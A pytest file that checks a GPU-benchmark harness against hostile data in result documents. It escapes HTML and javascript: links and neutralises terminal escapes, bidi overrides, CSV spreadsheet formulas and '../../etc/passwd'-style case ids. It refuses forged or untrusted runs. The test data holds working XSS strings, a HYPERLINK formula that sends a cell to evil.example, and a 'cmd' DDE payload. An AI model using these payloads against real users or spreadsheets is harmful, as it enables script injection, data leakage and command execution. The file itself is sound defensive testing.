"""Fault injection, host side: untrusted runs and the hostile data they may carry.

A pull request's run, a hand-edited document or a forged one must never reach the canonical
history, and what it carries (HTML, links, pipes, terminal escapes, another spelling of the GPU)
must neither render as markup in job summaries and pull-request comments, drive a terminal, nor
split a series. Each test reproduces one defect of issue 12 and checks what replaced it; the
docs/faults.md's table points at these tests.
"""

from __future__ import annotations

import hashlib
import os
import re
import shutil
import sqlite3
import subprocess
import sys

import orjson
import pytest
from click.testing import CliRunner

from harness.cli import main
from harness.history.store import Store
from tests.conftest import ROOT
from tests.support.harness_docs import make_document, samples, small_run, suite_manifest

HTML = "<img src=x onerror=alert(1)>"
LINK = "<a href=javascript:alert(1)>x</a>"
ESCAPE = "\x1b[2J\x1b]0;owned\x07"  # clear the screen, set the terminal's title
BIDI = "\u202e"  # right-to-left override: text shown reversed


def invoke(*args, **kwargs):
    return CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False, **kwargs)


def hostile_document(k: int = 0, factor: float = 1.0, **kwargs) -> dict:
    """A valid document whose names and messages carry HTML, a link, pipes and escapes."""
    case, impl = f"{HTML}|case{ESCAPE}", f"{LINK}|impl{BIDI}"
    doc = make_document(
        {
            case: {"cuda": samples(1e-3, seed=k), impl: samples(1.2e-3 * factor, seed=100 + k)},
            f"broken{ESCAPE}": {"cuda": samples(1e-3, seed=k)},
        },
        failed={f"broken{ESCAPE}": f"{HTML} {LINK} | {ESCAPE}"},
        commit=f"{k:040x}",
        started_utc=f"2026-12-01T10:00:{k:02d}Z",
        **kwargs,
    )
    doc["suite"]["name"] = f"suite {HTML}"
    doc["environment"]["device"]["name"] = f"NVIDIA H200 {LINK}"
    return doc


def cells(line: str) -> int:
    """Table cells in a markdown row: pipes not escaped by an odd run of backslashes."""
    return len(re.findall(r"(?<!\\)(?:\\\\)*\|", line)) - 1


def assert_inert_markdown(text: str) -> None:
    """No raw HTML or link from the data; every table row has as many cells as its header."""
    assert "<img" not in text and "<a " not in text and "</a>" not in text, text
    assert "\x1b" not in text and BIDI not in text, text
    assert "&lt;img src=x onerror=alert(1)&gt;" in text
    header = None
    for line in text.splitlines():
        if not line.startswith("|"):
            header = None
        elif header is None:
            header = cells(line)
        else:
            assert cells(line) == header, (line, header)


# ---- hostile names and messages in markdown (job summaries, pull-request comments) -------------


def test_every_markdown_output_escapes_html_pipes_and_escapes_from_the_data(tmp_path):
    first, second = hostile_document(0), hostile_document(1, factor=1.3)
    for k, document in enumerate((first, second)):
        (tmp_path / f"{k}.json").write_bytes(orjson.dumps(document))
    outputs = {
        "summary": invoke("summary", tmp_path / "0.json").stdout,
        "compare": invoke("compare", tmp_path / "0.json", tmp_path / "1.json").stdout,
    }
    for name in ("markdown", "nvbench-markdown"):
        outputs[name] = invoke("export", "--format", name, tmp_path / "0.json").stdout
    db = tmp_path / "h.sqlite"
    with Store(db) as store:
        for k in range(6):
            store.ingest(hostile_document(k, factor=1.3 if k == 5 else 1.0), trusted=True)
    outputs["regressions"] = invoke("regressions", "--db", db, "--fail-on", "never").stdout
    for name, text in outputs.items():
        assert HTML.split()[0] not in text, name
        assert_inert_markdown(text)
    assert "\\|case" in outputs["regressions"]  # the pipe in a name no longer splits the row
    assert "ALERT" in outputs["regressions"]  # the rows that carry names are there
    gate = invoke("compare", tmp_path / "0.json", tmp_path / "1.json", "--fail-on", "slower")
    assert gate.exit_code == 1 and "tripped by" in gate.stderr  # names the slower rows...
    assert "\x1b" not in gate.stderr and BIDI not in gate.stderr  # ...visibly


def test_a_code_span_cannot_be_closed_by_backticks_in_a_name():
    from harness.escaping import markdown

    name = "x` <img src=x onerror=alert(1)> `y"
    span = markdown(name, code=True)
    assert span == "``x` <img src=x onerror=alert(1)> `y``"  # literal inside a longer fence
    assert markdown(name) == "x\\` &lt;img src=x onerror=alert(1)&gt; \\`y"
    assert markdown("a|b\\", cell=True, code=True) == "a\\|b\\\\"  # plain in a cell: no span


# ---- terminal escape sequences in text output ---------------------------------------------------


def test_ingest_history_and_summary_print_escape_sequences_visibly(tmp_path):
    document = hostile_document(0)
    path = tmp_path / "run.json"
    path.write_bytes(orjson.dumps(document))
    db = tmp_path / "h.sqlite"
    shown = {"ingest": invoke("ingest", path, "--db", db).stderr}
    with Store(db) as store:
        store.ingest(document, trusted=True)
    shown["history"] = invoke("history", "--db", db).stdout
    shown["points"] = invoke("history", "--db", db, "--case", document["cases"][1]["id"]).stdout
    shown["summary"] = invoke("summary", path).stdout
    for name, text in shown.items():
        assert "\x1b" not in text and "\x07" not in text and BIDI not in text, name
        assert "\\x1b[2J" in text, name
    assert "\\u202e" in shown["ingest"] and "\\u202e" in shown["history"]
    with Store(db, readonly=True) as store:  # what is stored is the data as it came
        assert {s["case_id"] for s in store.list_series()} == {c["id"] for c in document["cases"]}


def test_an_untrusted_ingest_leaves_no_files_beside_the_store(tmp_path):
    db = tmp_path / "h.sqlite"
    with Store(db) as store:
        store.ingest(hostile_document(0), trusted=True)
    path = tmp_path / "run.json"
    path.write_bytes(orjson.dumps(hostile_document(1)))
    before = sorted(p.name for p in tmp_path.iterdir())
    done = invoke("ingest", path, "--db", db)
    assert done.exit_code == 0 and "would store" in done.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == before == ["h.sqlite", "run.json"]


# ---- another spelling of the GPU model ---------------------------------------------------------


def test_another_spelling_of_the_gpu_continues_its_series_and_passes_the_pin(tmp_path):
    from harness.analysis.compare import compare

    first = small_run(0, gpu="NVIDIA H200")
    second = small_run(1, gpu=" nvidia  h200 ", suite_gpu="nvidia H200")  # pinned, spelt otherwise
    with Store(tmp_path / "h.sqlite") as store:
        assert store.ingest(first, trusted=True).stored
        report = store.ingest(second, trusted=True)
        assert report.stored and report.new_series == []
        assert {(s["gpu"], s["points"]) for s in store.list_series()} == {("NVIDIA H200", 2)}
    assert compare(first, second).not_compared == ()  # one key: the two runs compare


def misspelt_v2_store(path, monkeypatch, documents) -> None:
    """A schema-2 store as kernelgap wrote it before issue 12: series keyed by the raw name."""
    from harness.history import series

    with monkeypatch.context() as patched:
        patched.setattr(series, "gpu_model", lambda name: name)
        with Store(path) as store:
            for document in documents:
                store.ingest(document, trusted=True)
    with sqlite3.connect(path) as raw:
        raw.execute("PRAGMA user_version = 2")


def every_point(store: Store) -> dict:
    return {s["series_id"]: (s, store.points(s["series_id"])) for s in store.list_series()}


def test_migration_3_merges_series_split_by_spelling_and_moves_no_other(tmp_path, monkeypatch):
    rtx = ["NVIDIA GeForce RTX 4090", " nvidia geforce rtx 4090", "NVIDIA H200"]
    runs = [small_run(k, gpu=gpu) for k, gpu in enumerate(rtx)]
    db = tmp_path / "h.sqlite"
    misspelt_v2_store(db, monkeypatch, runs)
    with Store(db, readonly=True) as store:  # read as it is before the migration: split
        assert sorted(s["gpu"] for s in store.list_series()) == sorted(2 * rtx)
        h200 = {s["series_id"] for s in store.list_series() if s["gpu"] == "NVIDIA H200"}
    newest = small_run(3, gpu="NVIDIA GeForce RTX 4090")
    with Store(db) as store:
        assert store.ingest(newest, trusted=True).new_series == []
        migrated = every_point(store)
    assert {(s["gpu"], s["points"]) for s, _ in migrated.values()} == {
        ("NVIDIA GEFORCE RTX 4090", 3),
        ("NVIDIA H200", 1),
    }
    assert h200 <= set(migrated)  # a series already in the one spelling keeps its id
    with Store(tmp_path / "fresh.sqlite") as fresh:  # as if ingested by this version
        for document in [*runs, newest]:
            fresh.ingest(document, trusted=True)
        assert every_point(fresh) == migrated


def test_the_frozen_version_1_store_migrates_with_every_series_id_kept(tmp_path):
    path = tmp_path / "history.sqlite"
    shutil.copyfile(ROOT / "tests" / "fixtures" / "history-store-v1.sqlite", path)
    with Store(path, readonly=True) as store:
        before = {s["series_id"]: s["points"] for s in store.list_series()}
        document = store.raw_document(store.runs()[-1]["run_id"])
    document["started_utc"] = "2027-01-01T00:00:00Z"
    document["finished_utc"] = "2027-01-01T00:01:00Z"
    document["environment"]["device"]["name"] = "nvidia h200 "
    with Store(path) as store:
        report = store.ingest(document, trusted=True)
        assert report.stored and report.new_series == []
        after = {s["series_id"]: s["points"] for s in store.list_series()}
    assert set(after) == set(before)
    assert all(after[sid] == points + 1 for sid, points in before.items() if points == 2)


# ---- trust comes from the repository, not from the document ------------------------------------


def ingest_trusted(tmp_path, document, *options):
    """`harness ingest RUN --trusted` from `tmp_path` (a checkout: benchmarks/cases.toml there
    is the default manifest); the store is tmp_path/h.sqlite."""
    path = tmp_path / "run.json"
    path.write_bytes(orjson.dumps(document))
    return invoke("ingest", path, "--db", tmp_path / "h.sqlite", "--trusted", *options)


@pytest.fixture
def checkout(tmp_path, monkeypatch):
    (tmp_path / "benchmarks").mkdir()
    monkeypatch.chdir(tmp_path)
    return tmp_path


@pytest.mark.parametrize("device", ["NVIDIA A100-SXM4-80GB", "NVIDIA H200"])
def test_a_run_claiming_no_pin_is_held_to_the_manifests_pin(checkout, device):
    document = small_run(0, gpu=device, suite_gpu=None)  # says suite.gpu: null
    suite_manifest(checkout / "benchmarks", document, gpu="NVIDIA H200")
    done = ingest_trusted(checkout, document)
    assert done.exit_code == 2, done.output
    assert "benchmarks/cases.toml pins" in done.stderr and "'NVIDIA H200'" in done.stderr
    assert "refused for the canonical history" in done.stderr
    wrong = "ran on 'NVIDIA A100-SXM4-80GB'" if "A100" in device else "suite.gpu is None"
    assert wrong in done.stderr
    assert not (checkout / "h.sqlite").exists()


@pytest.mark.parametrize(
    ("field", "value", "expected"),
    [
        ("name", "another-suite", "suite.name 'another-suite', the manifest's 'kernelgap-core'"),
        ("version", 7, "suite.version 7, the manifest's 1"),
        ("sha256", "ab" * 32, "suite.sha256 abababababab, the manifest's"),
    ],
)
def test_a_run_of_another_suite_version_or_manifest_is_refused(checkout, field, value, expected):
    document = small_run(0, suite_gpu="NVIDIA H200")
    suite_manifest(checkout / "benchmarks", document)
    document["suite"][field] = value
    done = ingest_trusted(checkout, document)
    assert done.exit_code == 2 and expected in done.stderr, done.output
    assert "not a run of benchmarks/cases.toml as it is in this checkout" in done.stderr


def test_a_trusted_ingest_needs_the_manifest_and_an_untrusted_one_does_not(checkout):
    document = small_run(0, suite_gpu="NVIDIA H200")
    done = ingest_trusted(checkout, document)
    assert done.exit_code == 2
    assert "there is no benchmarks/cases.toml in" in done.stderr and "--cases" in done.stderr
    done = invoke("ingest", checkout / "run.json", "--db", checkout / "h.sqlite")
    assert done.exit_code == 0 and "nothing written" in done.stderr
    (checkout / "deep.toml").write_text("x = " + "[" * 100_000 + "]" * 100_000 + "\n")
    done = ingest_trusted(checkout, document, "--cases", checkout / "deep.toml")
    assert done.exit_code == 2 and "deep.toml: malformed TOML" in done.stderr
    cases = suite_manifest(checkout / "benchmarks", document)
    done = ingest_trusted(checkout, document, "--cases", cases)
    assert done.exit_code == 0 and "stored run" in done.stderr, done.output


def test_a_runner_bench_document_takes_its_pin_from_the_command_line(checkout):
    document = small_run(0, gpu="NVIDIA A100-SXM4-80GB")
    document["options"]["frontend"] = "python"
    done = ingest_trusted(checkout, document)
    assert done.exit_code == 2 and "needs --gpu MODEL" in done.stderr
    done = ingest_trusted(checkout, document, "--gpu", "NVIDIA H200")
    assert done.exit_code == 2 and "ran on 'NVIDIA A100-SXM4-80GB' but --gpu pins" in done.stderr
    done = ingest_trusted(checkout, document, "--gpu", "nvidia a100-sxm4-80gb")
    assert done.exit_code == 0 and "stored run" in done.stderr, done.output


def test_a_trusted_ingest_outside_the_checkout_names_the_manifest_and_the_flag(tmp_path):
    """From any folder but the checkout's root there is no benchmarks/cases.toml: the error
    names the suite the document ran and the --cases flag, and following it stores the run."""
    fixture = ROOT / "tests" / "fixtures" / "result-1.2.0-h200-warpforth.json"
    document = orjson.loads(fixture.read_bytes())
    manifest = tmp_path / "checkout" / "benchmarks" / "cases.toml"
    manifest.parent.mkdir(parents=True)
    manifest.write_text('[suite]\nname = "kernelgap-core"\nversion = 1\ngpu = "NVIDIA H200"\n')
    document["suite"]["sha256"] = hashlib.sha256(manifest.read_bytes()).hexdigest()
    run = tmp_path / "run.json"
    run.write_bytes(orjson.dumps(document))
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()

    def ingest(*extra):
        return subprocess.run(
            [sys.executable, "-m", "harness", "ingest", str(run), "--db", "h.sqlite", "--trusted", *extra],
            cwd=elsewhere, capture_output=True, text=True, timeout=120,
            env={**os.environ, "PYTHONPATH": str(ROOT)},
        )  # fmt: skip

    refused = ingest()
    assert refused.returncode == 2 and "Traceback" not in refused.stderr
    assert "--cases" in refused.stderr and "kernelgap-core" in refused.stderr
    assert "benchmarks/cases.toml" in refused.stderr and not (elsewhere / "h.sqlite").exists()
    stored = ingest("--cases", str(manifest))
    assert stored.returncode == 0, stored.stderr
    assert (elsewhere / "h.sqlite").exists()


# ---- impossible timestamps (issue 33 item 17) ---------------------------------------------------


@pytest.mark.parametrize(
    "stamp", ["2026-13-45T99:99:99Z", "2026-02-30T10:00:00Z", "2026-12-01T23:59:60Z"]
)
@pytest.mark.parametrize("field", ["started_utc", "finished_utc"])
def test_an_impossible_timestamp_is_refused_naming_the_field(checkout, field, stamp):
    document = small_run(0, suite_gpu="NVIDIA H200")
    suite_manifest(checkout / "benchmarks", document)
    document[field] = stamp
    (checkout / "run.json").write_bytes(orjson.dumps(document))
    done = CliRunner().invoke(
        main, ["ingest", "run.json", "--db", "h.sqlite", "--trusted"], catch_exceptions=True
    )
    assert done.exit_code == 2 and done.exc_info[0] is SystemExit, done.output  # no traceback
    assert f"at {field}: '{stamp}' is not a 'date-time'" in done.stderr, done.stderr
    if (checkout / "h.sqlite").exists():
        with sqlite3.connect(checkout / "h.sqlite") as db:
            assert db.execute("SELECT count(*) FROM runs").fetchone() == (0,)


def test_a_real_timestamp_still_passes():
    from protocol.validation import is_date_time

    assert is_date_time("2024-02-29T23:59:59.123456789Z") and not is_date_time("2026-02-29T00:00Z")


# ---- explain renders the data inert; no autolink anywhere (issue 33 items 18, 19) ----------------

URL = "http://evil.example/login"
LINKS = f"{URL} www.evil.example me@evil.example"
_LIVE_LINK = re.compile(
    r"(?i)(?<!\\)(?:https?|ftp|mailto|xmpp):|(?<!\\)www\.|[\w.+-]@[\w-]+\.[a-z]"
)  # what GFM's autolink extension links: an unescaped scheme colon, www. or an address


_CODE_SPAN = re.compile(r"(?<![\\`])(`+)(?!`).*?(?<!`)\1(?!`)")  # literal: never linked


def assert_no_autolinks(text: str, name: str) -> None:
    found = _LIVE_LINK.search(_CODE_SPAN.sub("", text))
    assert found is None, (name, found.string[max(0, found.start() - 60) : found.end() + 60])


def explain_document(tmp_path) -> tuple:
    """The recorded WarpForth run with hostile names, device and static-analysis reasons."""
    doc = orjson.loads((ROOT / "tests/fixtures/result-1.2.0-h200-warpforth.json").read_bytes())
    case = doc["cases"][0]
    case["id"] = f"{HTML}{ESCAPE} {LINKS}"
    impls = case["implementations"]
    impls[f"{LINK} {URL}"] = impls.pop("warpforth")
    for impl in impls.values():
        impl["static"] = {"status": "unavailable", "reason": f"{HTML} {LINK} {LINKS}{ESCAPE}"}
    doc["environment"]["device"]["name"] = f"NVIDIA H200 {URL}"
    path = tmp_path / "explain.json"
    path.write_bytes(orjson.dumps(doc))
    return path, case["id"]


def test_explain_escapes_html_links_and_escapes_from_the_data(tmp_path):
    path, case_id = explain_document(tmp_path)
    text_out = invoke("explain", path, "--format", "text", "--case", case_id)
    markdown_out = invoke("explain", path, "--case", case_id)
    assert markdown_out.exit_code == 0 and text_out.exit_code == 0, markdown_out.output
    markdown = markdown_out.stdout
    assert_inert_markdown(markdown)
    assert_no_autolinks(markdown, "explain")
    assert "&lt;a href=javascript:alert(1)&gt;x&lt;/a&gt;" in markdown  # shown, not linked
    assert "http\\://evil.example/login" in markdown  # the same text on screen
    text = text_out.stdout
    assert "\x1b" not in text and "\x07" not in text and "\\x1b[2J" in text
    assert HTML in text  # a terminal shows the data as it is, markup included


def test_no_markdown_output_carries_a_live_link_from_the_data(tmp_path):
    documents = []
    for k in range(6):
        doc = hostile_document(k, factor=1.3 if k == 5 else 1.0)
        doc["suite"]["name"] = f"suite {LINKS}"
        doc["environment"]["device"]["name"] = f"NVIDIA H200 {URL}"
        for case in doc["cases"]:
            case["id"] = f"{case['id']} {LINKS}"
            if case.get("error"):
                case["error"]["message"] = f"see {LINKS}"
        documents.append(doc)
    for k, document in enumerate(documents[:2]):
        (tmp_path / f"{k}.json").write_bytes(orjson.dumps(document))
    outputs = {
        "summary": invoke("summary", tmp_path / "0.json").stdout,
        "compare": invoke("compare", tmp_path / "0.json", tmp_path / "1.json").stdout,
    }
    for name in ("markdown", "nvbench-markdown"):
        outputs[name] = invoke("export", "--format", name, tmp_path / "0.json").stdout
    with Store(tmp_path / "h.sqlite") as store:
        for document in documents:
            store.ingest(document, trusted=True)
    outputs["regressions"] = invoke(
        "regressions", "--db", tmp_path / "h.sqlite", "--fail-on", "never"
    ).stdout
    for name, text in outputs.items():
        assert "evil.example" in text, name  # the names are there...
        assert_no_autolinks(text, name)  # ...but link nowhere


def test_autolink_breaking_keeps_what_is_shown():
    from harness.escaping import markdown

    assert markdown(URL) == "http\\://evil.example/login"
    assert markdown("www.evil.example") == "www\\.evil.example"
    assert markdown("me@evil.example") == "me@&#8203;evil.example"  # zero-width space
    assert markdown("axpy@head") == "axpy@head"  # a revision label is no address
    assert markdown(URL, code=True) == f"`{URL}`"  # a code span is never linked


def test_history_series_errors_show_escape_sequences_visibly(tmp_path):
    db = tmp_path / "h.sqlite"
    with Store(db) as store:
        store.ingest(hostile_document(0), trusted=True)
    done = invoke("history", "--db", db, "--series", f"nothing{ESCAPE}")
    assert done.exit_code == 2 and "no such series" in done.stderr
    assert "\x1b" not in done.stderr and "\x07" not in done.stderr and BIDI not in done.stderr
    assert "nothing\\x1b[2J\\x1b]0;owned\\x07" in done.stderr


# ---- CSV cells a spreadsheet would run as formulas (issue 33 item 21) ----------------------------


def test_csv_export_neutralises_formulas_in_text_cells_and_keeps_numbers(tmp_path):
    import csv
    import io

    formulas = [
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "@SUM(1+1)",
        "+cmd|' /C calc'!A0",
        "-2+3",
    ]
    document = make_document(
        {
            name: {"cuda": samples(1e-3, seed=k), "ptx": samples(1.2e-3, seed=9)}
            for k, name in enumerate(formulas)
        }
    )
    path = tmp_path / "run.json"
    path.write_bytes(orjson.dumps(document))
    done = invoke("export", "--format", "csv", path)
    assert done.exit_code == 0, done.output
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert {r["case"] for r in rows} == {f"'{name}" for name in formulas}  # text, shown whole
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
        assert float(row["median_s"]) > 0 and float(row["gap"] or 1) > 0  # numbers stay numbers


# ---- dashboard file names from case ids (issue 33 item 22) ---------------------------------------


def test_long_and_colliding_case_ids_get_their_own_explain_pages(tmp_path):
    from harness.dashboard import build_site
    from harness.dashboard.explain_pages import file_stem

    ids = ["a/b", "a_b", "x" * 400, "x" * 400 + "y", "../../etc/passwd", "."]
    document = make_document(
        {
            case_id: {"cuda": samples(1e-3, seed=k), "ptx": samples(1.2e-3, seed=50 + k)}
            for k, case_id in enumerate(ids)
        }
    )
    db = tmp_path / "h.sqlite"
    with Store(db) as store:
        assert store.ingest(document, trusted=True).stored
    out = tmp_path / "site"
    build_site(db, out)  # a 400-character id used to fail with `File name too long`
    pages = sorted((out / "explain").glob("*.html"))
    assert len(pages) == len(ids) and len({file_stem(i) for i in ids}) == len(ids)
    for case_id in ids:
        stem = file_stem(case_id)
        assert len(stem) < 80 and "/" not in stem and not stem.startswith(".")
        page = (out / "explain" / f"{stem}.html").read_text()
        assert f"{case_id}: ptx vs cuda (baseline)" in page  # its own case, not the other one
    assert file_stem("axpy_f64").startswith("axpy_f64-")  # readable


# ---- a FIFO or device as a result document ---------------------------------------------------------


@pytest.mark.parametrize("command", [["summary"], ["explain"], ["ingest", "--db", "h.sqlite"]])
def test_a_fifo_or_device_as_a_result_document_is_refused_at_once(tmp_path, monkeypatch, command):
    import os

    monkeypatch.chdir(tmp_path)
    os.mkfifo(tmp_path / "run.json")
    for path, kind in ((tmp_path / "run.json", "a FIFO"), ("/dev/zero", "a character device")):
        done = CliRunner().invoke(main, [command[0], str(path), *command[1:]])
        assert done.exit_code == 2 and done.exc_info[0] is SystemExit, done.output
        assert f"must be a regular file, not {kind}" in done.stderr, done.stderr
